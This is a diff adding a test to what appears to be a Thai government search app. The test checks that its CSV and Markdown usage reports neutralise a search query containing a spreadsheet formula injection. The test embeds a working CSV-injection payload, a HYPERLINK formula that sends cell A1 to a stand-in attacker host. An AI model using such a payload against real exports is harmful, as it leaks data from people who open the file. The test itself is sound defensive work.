@@ -204,3 +204,16 @@ def test_report_links_use_the_public_address_not_the_host_header(make_app, db):
     assert 'href="https://km.example.go.th/a/land-tax-manual"' in page
     assert links and all(h.startswith(("https://km.example.go.th/", "#")) for h in links), links
     assert "evil.example" not in page
+
+
+def test_cli_csv_report_neutralises_a_formula_query(make_app, built, db):
+    app = make_app(USAGE_DB=str(db))
+    app.extensions["kmsearch.usage"].clock = lambda: IN_2567
+    app.test_client().get("/search", query_string={"q": '=HYPERLINK("http://evil.example/?leak="&A1,"x")'})
+    result = CliRunner().invoke(cli, ["report", "--content", built["CONTENT_DIR"], "--index", built["INDEX_DIR"],
+                                      "--usage-db", str(db), "--fiscal-year", "2567", "--format", "csv"])
+    rows = list(csv.reader(io.StringIO(result.output.lstrip("\ufeff"))))
+    assert ["คำค้นที่ไม่พบเอกสาร", "'=hyperlink(\"http://evil.example/?leak=\"&a1,\"x\")", "", "1", ""] in rows
+    md = CliRunner().invoke(cli, ["report", "--content", built["CONTENT_DIR"], "--index", built["INDEX_DIR"],
+                                  "--usage-db", str(db), "--fiscal-year", "2567"]).output
+    assert '| =hyperlink\\("http://evil.example/?leak="&amp;a1,"x"\\) | 1 |' in md
